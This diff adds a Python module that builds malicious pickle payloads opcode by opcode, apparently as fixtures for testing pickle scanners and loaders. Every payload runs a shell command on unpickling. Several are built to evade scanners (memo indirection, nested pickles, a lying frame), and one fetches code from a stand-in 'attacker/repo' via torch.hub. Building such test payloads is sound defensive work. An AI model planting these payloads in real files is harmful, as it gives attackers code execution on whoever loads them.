@@ -1,0 +1,199 @@
+"""Harmful pickles for testing scanners and loaders, assembled from opcodes.
+
+Nothing here pickles a live object: each payload is written opcode by opcode, so the bytes are
+exactly the trick they name. Every payload runs `command` through the shell when unpickled
+(tests point it at a canary file to prove whether anything ran).
+"""
+
+from __future__ import annotations
+
+import struct
+from typing import Callable
+
+
+# --- an opcode assembler ---------------------------------------------------------------------
+
+def proto(n: int) -> bytes:
+    return b"\x80" + bytes([n])
+
+
+def global_(module: str, name: str) -> bytes:
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+def unicode(text: str) -> bytes:
+    data = text.encode("utf-8")
+    if len(data) < 256:
+        return b"\x8c" + bytes([len(data)]) + data
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def string0(text: str) -> bytes:
+    """A protocol-0 STRING opcode."""
+    return b"S" + repr(text).encode() + b"\n"
+
+
+def binbytes(data: bytes) -> bytes:
+    return b"B" + struct.pack("<I", len(data)) + data
+
+
+def binput(i: int) -> bytes:
+    return b"q" + bytes([i])
+
+
+def binget(i: int) -> bytes:
+    return b"h" + bytes([i])
+
+
+def frame(length: int) -> bytes:
+    return b"\x95" + struct.pack("<Q", length)
+
+
+MARK, TUPLE, TUPLE1, TUPLE2, EMPTY_TUPLE = b"(", b"t", b"\x85", b"\x86", b")"
+REDUCE, BUILD, STOP, NONE, MEMOIZE = b"R", b"b", b".", b"N", b"\x94"
+STACK_GLOBAL, NEWOBJ, OBJ, EMPTY_DICT, SETITEM = b"\x93", b"\x81", b"o", b"}", b"s"
+
+
+def call(callable_ops: bytes, *args: bytes) -> bytes:
+    """Push callable, push a tuple of args, REDUCE."""
+    return callable_ops + MARK + b"".join(args) + TUPLE + REDUCE
+
+
+# --- payloads --------------------------------------------------------------------------------
+
+def classic(command: str) -> bytes:
+    """Protocol 0: GLOBAL os.system, REDUCE. What every scanner should catch."""
+    return global_("os", "system") + MARK + string0(command) + TUPLE + REDUCE + STOP
+
+
+def posix_system(command: str) -> bytes:
+    return proto(2) + call(global_("posix", "system"), unicode(command)) + STOP
+
+
+def subprocess_popen(command: str) -> bytes:
+    argv = MARK + unicode("sh") + unicode("-c") + unicode(command) + b"l"  # LIST
+    return proto(2) + global_("subprocess", "Popen") + argv + TUPLE1 + REDUCE + STOP
+
+
+def dotted_name(command: str) -> bytes:
+    """Protocol 4 resolves dotted names by attribute walk: pathlib -> os -> system."""
+    return (proto(4) + unicode("pathlib") + unicode("os.system") + STACK_GLOBAL
+            + MARK + unicode(command) + TUPLE + REDUCE + STOP)
+
+
+def memo_indirection(command: str) -> bytes:
+    """The module and name reach STACK_GLOBAL through the memo, far from where they were set."""
+    return (proto(4) + unicode("os") + binput(1) + b"0" + unicode("system") + binput(2) + b"0"
+            + NONE + b"0" + binget(1) + binget(2) + STACK_GLOBAL
+            + MARK + unicode(command) + TUPLE + REDUCE + STOP)
+
+
+def builtins_exec(command: str) -> bytes:
+    code = f"import os; os.system({command!r})"
+    return proto(2) + call(global_("builtins", "exec"), unicode(code)) + STOP
+
+
+def python2_builtin(command: str) -> bytes:
+    """Python 2's __builtin__, which Python 3's unpickler maps to builtins."""
+    code = f"__import__('os').system({command!r})"
+    return proto(2) + call(global_("__builtin__", "eval"), unicode(code)) + STOP
+
+
+def getattr_chain(command: str) -> bytes:
+    """getattr(__import__('os'), 'system')(command): the called object is computed."""
+    os_module = call(global_("builtins", "__import__"), unicode("os"))
+    system = call(global_("builtins", "getattr"), os_module, unicode("system"))
+    return proto(2) + system + MARK + unicode(command) + TUPLE + REDUCE + STOP
+
+
+def runpy_code(command: str) -> bytes:
+    code = f"import os; os.system({command!r})"
+    return proto(2) + call(global_("runpy", "_run_code"), unicode(code), EMPTY_DICT) + STOP
+
+
+def torch_hub_load(command: str) -> bytes:
+    """torch.hub.load fetches and runs a repository's hubconf.py (command unused: the network)."""
+    return proto(2) + call(global_("torch.hub", "load"), unicode("attacker/repo"),
+                           unicode("model")) + STOP
+
+
+def torch_load(command: str) -> bytes:
+    """torch.load of a second, attacker-controlled file, with weights_only=False semantics."""
+    return proto(2) + call(global_("torch", "load"), unicode("/tmp/second_stage.pt")) + STOP
+
+
+def nested_load_from_bytes(command: str) -> bytes:
+    """A clean-looking outer pickle that hands a harmful one to torch.storage._load_from_bytes."""
+    inner = classic(command)
+    return proto(2) + call(global_("torch.storage", "_load_from_bytes"), binbytes(inner)) + STOP
+
+
+def nested_pickle_loads(command: str) -> bytes:
+    """pickle.loads of a nested payload whose bytes arrive through _codecs.encode (protocol 2)."""
+    inner = classic(command).decode("latin-1")
+    data = call(global_("_codecs", "encode"), unicode(inner), unicode("latin1"))
+    return proto(2) + call(global_("pickle", "loads"), data) + STOP
+
+
+def dynamic_name(command: str) -> bytes:
+    """STACK_GLOBAL whose module name is the result of a call (str.join), not a constant."""
+    module = call(global_("builtins", "str"), unicode("os"))
+    return (proto(4) + module + unicode("system") + STACK_GLOBAL
+            + MARK + unicode(command) + TUPLE + REDUCE + STOP)
+
+
+def extension_code(command: str) -> bytes:
+    """EXT1: imports whatever the loading process registered under code 1 in copyreg."""
+    return proto(2) + b"\x82\x01" + MARK + unicode(command) + TUPLE + REDUCE + STOP
+
+
+def build_on_function(command: str) -> bytes:
+    """BUILD with slot state on a function: setattr(func, '__defaults__', ...) at load time."""
+    state = NONE + EMPTY_DICT + unicode("__defaults__") + MARK + unicode(command) + TUPLE \
+        + SETITEM + TUPLE2
+    return proto(2) + global_("collections", "namedtuple") + state + BUILD + STOP
+
+
+def lying_frame(command: str) -> bytes:
+    """A FRAME that claims 2 bytes, hiding (from frame-trusting readers) the opcodes after it."""
+    body = unicode("os") + unicode("system") + STACK_GLOBAL + MARK + unicode(command) + TUPLE \
+        + REDUCE + STOP
+    return proto(4) + frame(2) + body
+
+
+def truncated(command: str) -> bytes:
+    """No STOP: the unpickler runs the call, then fails. Still harmful."""
+    return classic(command)[:-1]
+
+
+def inst_opcode(command: str) -> bytes:
+    """Protocol 0 INST: import and call in one opcode."""
+    return MARK + string0(command) + b"ios\nsystem\n" + STOP
+
+
+def obj_opcode(command: str) -> bytes:
+    return proto(1) + MARK + global_("os", "system") + unicode(command) + OBJ + STOP
+
+
+PAYLOADS: dict[str, Callable[[str], bytes]] = {
+    "classic": classic,
+    "posix-system": posix_system,
+    "subprocess-popen": subprocess_popen,
+    "dotted-name": dotted_name,
+    "memo-indirection": memo_indirection,
+    "builtins-exec": builtins_exec,
+    "python2-builtin": python2_builtin,
+    "getattr-chain": getattr_chain,
+    "runpy": runpy_code,
+    "torch-hub-load": torch_hub_load,
+    "torch-load": torch_load,
+    "nested-load-from-bytes": nested_load_from_bytes,
+    "nested-pickle-loads": nested_pickle_loads,
+    "dynamic-name": dynamic_name,
+    "extension-code": extension_code,
+    "build-on-function": build_on_function,
+    "lying-frame": lying_frame,
+    "truncated": truncated,
+    "inst-opcode": inst_opcode,
+    "obj-opcode": obj_opcode,
+}
